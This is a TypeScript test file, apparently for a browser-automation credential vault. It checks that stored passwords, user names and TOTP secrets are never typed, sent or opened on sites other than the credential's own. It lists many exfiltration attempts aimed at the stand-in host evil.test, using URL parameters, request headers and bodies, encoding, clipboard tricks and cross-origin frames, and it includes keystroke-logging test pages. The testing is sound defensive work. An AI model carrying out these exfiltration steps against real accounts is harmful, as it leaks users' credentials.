/** Secrets of a credential on sites that are not its own: nothing that a workflow can do types, sends or opens them there. */
import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { assert, describe, it } from "@effect/vitest"
import { Effect, Option, Redacted } from "effect"
import type { Failure, Outcome } from "../../../core/agent/Outcome.ts"
import type { ApiRequest } from "../../../core/browser/Requests.ts"
import type { LoginCodes } from "../../../core/vault/otp/LoginCodes.ts"
import * as SecretSites from "../../../core/vault/site/SecretSites.ts"
import * as ScriptedBrowser from "../../kit/browser/ScriptedBrowser.ts"
import { account } from "../../support/accounts.ts"
import { graphOf, type Step, walk } from "../../support/browser.ts"
import { entryOf } from "../../support/entries.ts"
import { inBrowser } from "../../support/realBrowser.ts"

const home = "https://app.bank.example"
const password = "horse-battery-7"
const secrets = { userName: "ada@bank.example", password, tfaSecret: "JBSWY3DPEHPK3PXP" }
const bank = account("BANK", secrets, entryOf({}, { domain: home }))
const evil = "https://evil.test/"

const fields: ReadonlyArray<ScriptedBrowser.ScriptedElement> = [
  { selector: "#field", value: "", options: [password] },
  { selector: "#code", value: "", takes: { values: ["123456"], leadsTo: `${home}/in` } },
  { selector: "#file", value: "" }
]
const site: ScriptedBrowser.ScriptedSite = Object.fromEntries(
  [
    evil,
    `${home}/`,
    `${home}/in`,
    "https://login.bank.example/",
    "http://login.bank.example/",
    "https://login.bank.example:8443/",
    "https://bank.example.evil.test/",
    "https://otherbank.example/",
    "https://sso.partner.example/"
  ].map((address) => [address, fields])
)

const failureOf = (outcome: Outcome): Failure => {
  if (outcome._tag === "Failed") return outcome.failure
  throw new Error(`Expected a failure, got ${JSON.stringify(outcome.data)}`)
}

const PASSWORD = "{{context.inputs.BANK.PASSWORD}}"
const type = (text: string, more: object = {}): Step => ({
  action: "INPUT_TEXT",
  parameters: { selector: "#field", text, ...more }
})
const set = (target: string, value: string): Step => ({
  action: "TRANSFORM",
  parameters: { operations: [{ type: "SET", target, value }] }
})
const flow = (step: object, more: object = {}): Step => ({
  action: "API_FLOW",
  parameters: { steps: [{ id: "one", method: "POST", url: evil, ...step }], ...more }
})
const read = (name: string, path: string): Step => ({
  action: "EXTRACT_DATAMODEL",
  parameters: { extract_data_model: { type: "object", properties: { [name]: { type: "string", path } } } }
})

/** Walks steps on scripted pages; answers how it ended, what the network was sent, and which addresses were opened. */
const attempt = (start: string, steps: ReadonlyArray<Step>, of = bank, codes?: LoginCodes["Service"]) =>
  Effect.gen(function* () {
    const sent: Array<ApiRequest> = []
    const answer = (asked: ApiRequest) => {
      sent.push(asked)
      return { body: "{}", headers: { "content-type": "application/json" } }
    }
    const { outcome } = yield* walk(
      graphOf(start, steps),
      { BANK: "ada" },
      { accounts: [of], ...(codes === undefined ? {} : { codes }) }
    ).pipe(Effect.provide(ScriptedBrowser.layer(site, { answer })))
    return { outcome, sent }
  })

/** Ways to have a secret typed, sent or opened on a page of `evil.test`. */
const attacks: Readonly<Record<string, ReadonlyArray<Step>>> = {
  "typed into a field": [type(PASSWORD)],
  "typed among other text": [type(`x${PASSWORD}y`)],
  "typed behind a key": [type(`me{{tab}}${PASSWORD}`)],
  "typed where the focus is": [type("x"), type(PASSWORD, { omit_focus: true })],
  pasted: [type(PASSWORD, { paste_via_clipboard: true })],
  "the user name": [type("{{context.inputs.BANK.USER_NAME}}")],
  "the secret of codes": [type("{{context.inputs.BANK.TFA_SECRET}}")],
  "made into something else": [type("{{$uppercase(context.inputs.BANK.PASSWORD)}}")],
  "character by character": [
    set("context.parts", "$split(context.inputs.BANK.PASSWORD, '')"),
    type("{{context.parts[0]}}")
  ],
  "kept in the context": [set("context.x", "context.inputs.BANK.PASSWORD"), type("{{context.x}}")],
  "kept twice": [
    set("context.x", "$reverse($split(context.inputs.BANK.PASSWORD, ''))"),
    set("context.y.z", "$join(context.x)"),
    type("{{context.y.z}}")
  ],
  "with the whole context": [
    set("context.x", "$substring(context.inputs.BANK.PASSWORD, 1)"),
    type("{{$string(context)}}")
  ],
  "looked up by its name": [
    set("context.x", "$substring(context.inputs.BANK.PASSWORD, 1)"),
    type("{{$lookup(context, 'x')}}")
  ],
  "extracted with its template": [read("x", "{{$substring(context.inputs.BANK.PASSWORD, 1)}}"), type("{{context.x}}")],
  "chosen in a list": [{ action: "INPUT_SELECT", parameters: { selector: "#field", value: PASSWORD } }],
  "in an address": [{ action: "NAVIGATE", parameters: { url: `https://evil.test/?p=${PASSWORD}` } }],
  "in a relative address": [{ action: "NAVIGATE", parameters: { url: `/?p=${PASSWORD}` } }],
  "as the host of an address": [{ action: "NAVIGATE", parameters: { url: `https://${PASSWORD}.evil.test/` } }],
  "in a window": [
    { action: "TAB_MANAGEMENT", parameters: { tabAction: "OPEN", url: `https://evil.test/?p=${PASSWORD}` } }
  ],
  "encoded in an address": [
    set("context.x", "$base64encode(context.inputs.BANK.PASSWORD)"),
    { action: "NAVIGATE", parameters: { url: "https://evil.test/?p={{context.x}}" } }
  ],
  "in the address of a request": [flow({ url: `https://evil.test/?p=${PASSWORD}` })],
  "in the query of a request": [flow({ query: { p: PASSWORD } })],
  "in a header of a request": [flow({ headers: { "x-p": PASSWORD } })],
  "in a JSON body": [flow({ body: { type: "json", value: { p: [PASSWORD] } } })],
  "in a form": [flow({ body: { type: "form_urlencoded", value: { p: PASSWORD } } })],
  "in a text body": [flow({ body: { type: "text", value: `p=${PASSWORD}` } })],
  "in a part of a body": [flow({ body: { type: "multipart", value: { p: PASSWORD } } })],
  "by way of a map": [
    flow({ url: `${home}/echo` }, { field_json_map: { "context.x": "$substring(context.inputs.BANK.PASSWORD, 1)" } }),
    type("{{context.x}}")
  ],
  "by way of an answer": [
    set("context.x", "$substring(context.inputs.BANK.PASSWORD, 1)"),
    {
      action: "API_FLOW",
      parameters: {
        steps: [
          {
            id: "one",
            method: "GET",
            url: `${home}/echo`,
            extract: [{ name: "x", source: "response_body", expression: "$context.x" }]
          },
          { id: "two", method: "GET", url: "https://evil.test/?p={{steps.one.x}}" }
        ]
      }
    }
  ],
  "in the address of a file": [
    {
      action: "FILE_UPLOAD",
      parameters: { signed_file_url: `https://evil.test/?p=${PASSWORD}`, selector: "#file" }
    }
  ],
  "item by item": [
    {
      action: "LOOP",
      parameters: {
        variable_over: "{{$split(context.inputs.BANK.PASSWORD, '')}}",
        variable_current_item: "letter",
        variable_current_index: "index"
      },
      to: { body: 2, done: 3 }
    },
    { ...type("{{context.runtime.letter}}"), to: 1 }
  ]
}

/** Ways that are refused before it is known where the secret would go, or where that is not said. */
const refusedBefore = new Set(["as the host of an address", "item by item"])

describe("a secret", () => {
  for (const [way, steps] of Object.entries(attacks)) {
    it.effect(`is not used on a foreign site: ${way}`, () =>
      Effect.gen(function* () {
        const { outcome, sent } = yield* attempt(evil, steps)
        const failure = failureOf(outcome)
        assert.strictEqual(failure.code, "CREDENTIAL-E0002", JSON.stringify(failure))
        const told = JSON.stringify(outcome)
        for (const one of Object.values(secrets)) assert.notInclude(told, one)
        // It says whose secret it is, and where it would have gone.
        assert.include(failure.message, home)
        if (!refusedBefore.has(way)) assert.include(failure.message, "https://evil.test;")
        assert.isEmpty(sent.filter(({ url }) => url.includes("evil.test")))
      })
    )
  }

  it.effect("that a page shows is not carried to another site", () =>
    Effect.gen(function* () {
      const { outcome } = yield* attempt(`${home}/`, [
        type(PASSWORD),
        read("shown", "#field"),
        { action: "NAVIGATE", parameters: { url: evil } },
        type("{{context.shown}}")
      ])
      assert.strictEqual(failureOf(outcome).code, "CREDENTIAL-E0002")
    })
  )

  it.effect("that was made into something else is not carried by what a page shows of it either", () =>
    Effect.gen(function* () {
      const upper = "{{$uppercase(context.inputs.BANK.PASSWORD)}}"
      for (const typing of [[type(upper)], [set("context.x", upper.slice(2, -2)), type("{{context.x}}")]]) {
        const { outcome } = yield* attempt(`${home}/`, [
          ...typing,
          read("shown", "#field"),
          { action: "NAVIGATE", parameters: { url: evil } },
          type("{{context.shown}}")
        ])
        assert.strictEqual(failureOf(outcome).code, "CREDENTIAL-E0002")
      }
    })
  )

  it.effect("is not typed into a frame of another site, and is into one of its own site in a foreign page", () =>
    Effect.gen(function* () {
      const framed = (around: string, frame: string) =>
        walk(graphOf(around, [type(PASSWORD)]), { BANK: "ada" }, { accounts: [bank] }).pipe(
          Effect.provide(ScriptedBrowser.layer({ [around]: [{ selector: "#field", value: "", frame }] }))
        )
      assert.strictEqual(failureOf((yield* framed(`${home}/`, evil)).outcome).code, "CREDENTIAL-E0002")
      assert.strictEqual((yield* framed(evil, `${home}/frame`)).outcome._tag, "Success")
    })
  )

  it.effect("is used on its own site in every way", () =>
    Effect.gen(function* () {
      const own: ReadonlyArray<Step> = [
        type(PASSWORD),
        set("context.x", "$uppercase(context.inputs.BANK.PASSWORD)"),
        type("{{context.x}}"),
        { action: "INPUT_SELECT", parameters: { selector: "#field", value: PASSWORD } },
        flow({ url: `${home}/token`, body: { type: "json", value: { p: PASSWORD } } }),
        // A value that is no secret may go anywhere.
        { action: "NAVIGATE", parameters: { url: evil } },
        type("hello {{context.inputs.BANK}}"),
        flow({ body: { type: "json", value: { p: "{{context.inputs.BANK}}" } } })
      ]
      const { outcome, sent } = yield* attempt(`${home}/`, own)
      assert.strictEqual(outcome._tag, "Success", JSON.stringify(outcome))
      assert.lengthOf(sent, 2)
    })
  )
})

describe("the site of a credential", () => {
  const at = (domain: string, origins: ReadonlyArray<string> | null, address: string) =>
    SecretSites.permits(entryOf({ allowed_origins: origins }, { domain }), address)
  const cases: ReadonlyArray<readonly [domain: string, address: string, permitted: boolean]> = [
    [home, "https://app.bank.example/login", true],
    [home, "https://login.bank.example/", true],
    [home, "https://bank.example/", true],
    [home, "http://app.bank.example/", false],
    [home, "http://login.bank.example/", false],
    [home, "https://login.bank.example:8443/", false],
    [home, "https://bank.example.evil.test/", false],
    [home, "https://otherbank.example/", false],
    [home, "https://app.bank.example@evil.test/", false],
    [home, "about:blank", false],
    [home, "about:srcdoc", false],
    [home, "data:text/html,app.bank.example", false],
    [home, "blob:https://app.bank.example/1", false],
    [home, "", false],
    ["http://app.bank.example", "http://app.bank.example/", true],
    ["http://app.bank.example", "https://login.bank.example/", true],
    ["app.bank.example:8443", "https://app.bank.example:8443/", true],
    ["app.bank.example", "http://app.bank.example/", false],
    ["app.bank.example:8443", "http://app.bank.example:8443/", false],
    ["10.0.0.1:8080", "http://10.0.0.1:8080/", false],
    ["127.0.0.1:3000", "http://127.0.0.1:3000/", true],
    ["https://shop.co.uk", "https://login.shop.co.uk/", true],
    ["https://shop.co.uk", "https://evil.co.uk/", false],
    ["https://alice.github.io", "https://mallory.github.io/", false],
    ["https://github.io", "https://mallory.github.io/", false],
    ["https://co.uk", "https://evil.co.uk/", false],
    ["http://127.0.0.1:3000", "http://127.0.0.1:3000/login", true],
    ["http://127.0.0.1:3000", "http://127.0.0.1:3001/", false],
    ["https://10.0.0.1", "https://10.0.0.2/", false],
    ["https://[::1]", "https://[::1]/", true],
    ["localhost:3000", "http://localhost:3000/", true],
    ["http://localhost:3000", "https://evil.localhost/", false],
    ["https://bücher.example", "https://login.xn--bcher-kva.example/", true]
  ]
  it("is its origin, and the https hosts of its registrable domain", () => {
    for (const [domain, address, permitted] of cases) {
      assert.strictEqual(at(domain, null, address), permitted, `${domain} at ${address}`)
    }
  })

  it("has the origins beside it that an Owner has named, each as a whole", () => {
    const origins = ["https://sso.partner.example"]
    assert.isTrue(at(home, origins, "https://sso.partner.example/login?x"))
    assert.isFalse(at(home, origins, "https://partner.example/"))
    assert.isFalse(at(home, origins, "https://a.sso.partner.example/"))
    assert.isFalse(at(home, origins, "http://sso.partner.example/"))
    assert.isFalse(at(home, origins, "https://sso.partner.example:444/"))
  })

  it.effect("decides where a step types", () =>
    Effect.gen(function* () {
      const partner = account(
        "BANK",
        secrets,
        entryOf({ allowed_origins: ["https://sso.partner.example"] }, { domain: home })
      )
      assert.strictEqual((yield* attempt("https://login.bank.example/", [type(PASSWORD)])).outcome._tag, "Success")
      const sso = "https://sso.partner.example/"
      assert.strictEqual((yield* attempt(sso, [type(PASSWORD)], partner)).outcome._tag, "Success")
      for (const foreign of [sso, "http://login.bank.example/", "https://bank.example.evil.test/"]) {
        assert.strictEqual(failureOf((yield* attempt(foreign, [type(PASSWORD)])).outcome).code, "CREDENTIAL-E0002")
      }
    })
  )
})

/** Codes and links that arrived, in their order. */
const arrived = (kind: "code" | "link", ...all: ReadonlyArray<ReadonlyArray<string>>) => {
  const left = [...all]
  const asked = { codes: 0 }
  const codes: LoginCodes["Service"] = {
    generated: () => Effect.sync(() => Option.some(Redacted.make(String(100_000 + ++asked.codes)))),
    passkey: () => Effect.succeed(null),
    keepPasskey: () => Effect.void,
    addressOf: () => Effect.succeed("ada@inbox.example"),
    received: (_entry, _address, wanted) =>
      Effect.sync(() => {
        const next = wanted.kind === kind ? left.shift() : undefined
        return Option.fromUndefinedOr(next?.map((one) => Redacted.make(one)))
      })
  }
  return { asked, codes }
}

describe("a one-time code", () => {
  it.effect("is neither made nor typed for a foreign site", () =>
    Effect.gen(function* () {
      const { asked, codes } = arrived("code")
      const step: Step = {
        action: "TFA",
        parameters: { tfa_type: "AUTHENTICATOR", credential: "BANK", selector: "#code", wait_time: 100 }
      }
      const { outcome } = yield* attempt(evil, [step], bank, codes)
      assert.strictEqual(failureOf(outcome).code, "CREDENTIAL-E0002")
      assert.strictEqual(asked.codes, 0)
    })
  )
})

describe("a link of a mail", () => {
  const open = (links: ReadonlyArray<string>, pattern?: string) =>
    attempt(
      `${home}/`,
      [
        {
          action: "TFA",
          parameters: {
            tfa_type: "MAGIC_LINK",
            credential: "BANK",
            ...(pattern === undefined ? {} : { link_regex_pattern: pattern })
          }
        },
        read("where", "{{window.location.pathname}}")
      ],
      bank,
      arrived("link", links).codes
    ).pipe(Effect.map(({ outcome }) => outcome))

  it.effect("leads to the site of the credential, whatever else a forged mail has in it", () =>
    Effect.gen(function* () {
      // A link that signs in is a secret itself: where it led shows its end.
      assert.deepInclude(yield* open([evil, `${home}/in`]), { _tag: "Success", data: { where: "/in" } })
      const failure = failureOf(yield* open([evil]))
      assert.strictEqual(failure.code, "TFA-E0002")
      assert.include(failure.message, home)
    })
  )

  it.effect("leads elsewhere only where the pattern of the node names the host", () =>
    Effect.gen(function* () {
      const partner = "https://sso.partner.example/"
      assert.strictEqual((yield* open([partner], "^https://sso\\.partner\\.example/"))._tag, "Success")
      for (const pattern of ["evil", "https://[a-z]+\\.test/$"]) {
        assert.strictEqual((yield* open([evil], pattern))._tag, "Success", pattern)
      }
      for (const [link, pattern] of [
        [`${evil}?next=https://sso.partner.example/`, "https://sso\\.partner\\.example/"],
        [`${evil}?token=1`, "token="],
        [evil, "^https://"],
        [evil, ".*"]
      ] as const) {
        assert.strictEqual(failureOf(yield* open([link], pattern)).code, "TFA-E0002", pattern)
      }
    })
  )
})

/** A server whose pages are the given ones, on a separate origin; it keeps its requests. */
const serve = (pages: (other: () => string) => Readonly<Record<string, string>>, other: () => string) =>
  Effect.acquireRelease(
    Effect.promise(
      () =>
        new Promise<{ readonly origin: string; readonly heard: Array<string>; readonly close: () => void }>(
          (resolve) => {
            const heard: Array<string> = []
            const server = createServer((request, response) => {
              let body = ""
              request.on("data", (chunk) => (body += String(chunk)))
              request.on("end", () => {
                heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`)
                const path = (request.url ?? "/").split("?")[0] ?? "/"
                const status = { "/away": 307, "/away303": 303 }[path]
                if (status !== undefined) {
                  response.writeHead(status, { location: `${other()}/taken` }).end()
                  return
                }
                response.setHeader("content-type", "text/html")
                response.end(pages(other)[path] ?? "<p>nothing</p>")
              })
            })
            server.listen(0, "127.0.0.1", () =>
              resolve({
                origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
                heard,
                close: () => {
                  server.closeAllConnections()
                  server.close()
                }
              })
            )
          }
        )
    ),
    ({ close }) => Effect.sync(close)
  )

describe("in a real browser", () => {
  const listening = `<script>
    for (const kind of ["input", "change", "paste", "keydown"]) addEventListener(kind, (event) =>
      fetch("/heard?" + kind + "=" + encodeURIComponent(event.target.value ?? "") + (event.key ?? "")), true)
  </script>`
  const field = `<input id="field" type="text">${listening}`

  const withSites = <A>(
    test: (sites: {
      readonly own: string
      readonly foreign: string
      readonly heard: ReadonlyArray<string>
      readonly ownHeard: ReadonlyArray<string>
      readonly go: (start: string, steps: ReadonlyArray<Step>) => Effect.Effect<Outcome>
    }) => Effect.Effect<A>
  ) =>
    Effect.gen(function* () {
      let [ownOrigin, foreignOrigin] = ["", ""]
      const pages = (other: () => string) => ({
        "/": field,
        "/frames": `<p>frames</p><iframe src="${other()}/"></iframe>`,
        // The second field is of another site; the tabulator leads there.
        "/tabs": `<input id="first" autofocus>${listening}<iframe src="${other()}/"></iframe>`,
        // Between two keys, the focus goes to a field of another site.
        "/grab": `<input id="field">${listening}<iframe id="frame" src="${other()}/focused"></iframe>
          <script>field.oninput = () => { if (field.value.length === 3) { frame.focus(); frame.contentWindow.postMessage("", "*") } }</script>`,
        "/focused": `${field}<script>onmessage = () => { focus(); field.focus() }</script>`,
        "/srcdoc": `<iframe srcdoc="<input id='field'>"></iframe>`,
        // An empty document in a frame belongs to the site that made it.
        "/blank": `<iframe id="frame"></iframe><script>frame.contentDocument.write("<input id=field>")</script>`,
        "/shown": `<input id="field" value="">`
      })
      const own = yield* serve(pages, () => foreignOrigin)
      const foreign = yield* serve(pages, () => ownOrigin)
      ownOrigin = own.origin
      foreignOrigin = foreign.origin
      const of = account("BANK", secrets, entryOf({}, { domain: own.origin }))
      const go = (start: string, steps: ReadonlyArray<Step>) =>
        inBrowser(
          Effect.map(walk(graphOf(start, steps), { BANK: "ada" }, { accounts: [of] }), ({ outcome }) => outcome)
        ).pipe(Effect.orDie) as Effect.Effect<Outcome>
      return yield* test({ own: own.origin, foreign: foreign.origin, heard: foreign.heard, ownHeard: own.heard, go })
    }).pipe(Effect.scoped)

  const css = "css=#field"
  const inFrame = "//iframe//input[@id='field']"
  const typeInto = (selector: string, text = PASSWORD, more: object = {}): Step => ({
    action: "INPUT_TEXT",
    parameters: { selector, text, wait_time: 5_000, ...more }
  })

  it.live("no way of typing brings a secret to a document of another site", () =>
    withSites(({ foreign, go, heard, own }) =>
      Effect.gen(function* () {
        const refused: ReadonlyArray<readonly [name: string, start: string, steps: ReadonlyArray<Step>]> = [
          ["set at once", `${foreign}/`, [typeInto(css)]],
          ["by keys", `${foreign}/`, [typeInto(css, PASSWORD, { typing_delay_ms: 5 })]],
          ["by hand", `${foreign}/`, [typeInto(css, PASSWORD, { human_mode: true })]],
          ["pasted", `${foreign}/`, [typeInto(css, PASSWORD, { paste_via_clipboard: true })]],
          ["after what is there", `${foreign}/`, [typeInto(css, PASSWORD, { do_not_clear: true })]],
          ["at a point", `${foreign}/`, [typeInto('{"x": 40, "y": 18}', PASSWORD, { execution: "COORDINATES" })]],
          ["at the focus", `${foreign}/`, [typeInto(css, "x"), typeInto(css, PASSWORD, { omit_focus: true })]],
          ["in a frame", `${own}/frames`, [typeInto(inFrame)]],
          ["behind the tabulator", `${own}/tabs`, [typeInto("css=#first", `x{{tab}}${PASSWORD}`)]],
          [
            "when the focus is taken",
            `${own}/grab`,
            [typeInto("//input[@id='field']", PASSWORD, { typing_delay_ms: 60 })]
          ],
          ["in a frame without an address", `${foreign}/srcdoc`, [typeInto(inFrame)]],
          ["in an empty frame", `${foreign}/blank`, [typeInto(inFrame)]],
          [
            "from the clipboard",
            `${own}/shown`,
            [
              typeInto(css, `${PASSWORD}{{ctrl_a}}{{ctrl_c}}`),
              { action: "NAVIGATE", parameters: { url: `${foreign}/` } },
              typeInto(css, "{{ctrl_v}}", { do_not_clear: true })
            ]
          ]
        ]
        for (const [name, start, steps] of refused) {
          const failure = failureOf(yield* go(start, steps))
          assert.strictEqual(failure.code, "CREDENTIAL-E0002", `${name}: ${JSON.stringify(failure)}`)
        }
        // Before the focus was taken, some keys were typed on the own site.
        const told = heard.join("\n")
        for (const part of [password, password.slice(3, 8), encodeURIComponent(password)]) assert.notInclude(told, part)
      })
    )
  )

  it.live("a request with a secret is not redirected to another site", () =>
    withSites(({ go, heard, own, ownHeard }) =>
      Effect.gen(function* () {
        const send = (path: string, more: object): Step => flow({ url: `${own}${path}`, ...more })
        for (const more of [{ body: { type: "json", value: { p: PASSWORD } } }, { headers: { "x-p": PASSWORD } }]) {
          const failure = failureOf(yield* go(`${own}/`, [send("/away", more)]))
          assert.strictEqual(failure.code, "CREDENTIAL-E0002", JSON.stringify(failure))
        }
        assert.notInclude(heard.join("\n"), password)
        assert.include(ownHeard.join("\n"), password)
        // A redirect that carries nothing on is followed.
        const outcome = yield* go(`${own}/`, [send("/away303", { body: { type: "json", value: { p: PASSWORD } } })])
        assert.strictEqual(outcome._tag, "Success", JSON.stringify(outcome))
        assert.include(heard.join("\n"), "GET /taken")
        assert.notInclude(heard.join("\n"), password)
      })
    )
  )

  it.live("a secret is typed on its own site, in its frames and in its frames on other sites", () =>
    withSites(({ foreign, go, own, ownHeard }) =>
      Effect.gen(function* () {
        const allowed: ReadonlyArray<readonly [name: string, start: string, steps: ReadonlyArray<Step>]> = [
          ["set at once", `${own}/`, [typeInto(css)]],
          ["by keys", `${own}/`, [typeInto(css, PASSWORD, { typing_delay_ms: 1 })]],
          ["by hand", `${own}/`, [typeInto(css, PASSWORD, { human_mode: true })]],
          ["pasted", `${own}/`, [typeInto(css, PASSWORD, { paste_via_clipboard: true })]],
          ["at the focus", `${own}/`, [typeInto(css, "x"), typeInto(css, PASSWORD, { omit_focus: true })]],
          ["in a frame without an address", `${own}/srcdoc`, [typeInto(inFrame)]],
          ["in an empty frame", `${own}/blank`, [typeInto(inFrame)]],
          ["in its frame on another site", `${foreign}/frames`, [typeInto(inFrame)]]
        ]
        for (const [name, start, steps] of allowed) {
          const outcome = yield* go(start, steps)
          assert.strictEqual(outcome._tag, "Success", `${name}: ${JSON.stringify(outcome)}`)
        }
        assert.include(ownHeard.join("\n"), password)
      })
    )
  )
})
